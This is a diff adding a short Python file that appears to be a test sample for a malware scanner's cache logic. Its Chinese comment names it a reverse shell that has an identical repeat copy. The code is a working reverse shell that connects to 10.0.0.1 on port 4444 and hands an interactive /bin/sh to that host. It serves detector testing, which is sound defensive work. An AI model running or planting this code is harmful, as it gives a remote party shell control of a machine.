@@ -0,0 +1,10 @@
+# detect-expect-not: 'Cached'
+# 首次检测写入结论缓存的反弹shell，04_malicious_reverse_shell_repeat是内容完全相同的副本
+import os, socket, subprocess
+
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("10.0.0.1", 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+subprocess.call(["/bin/sh", "-i"])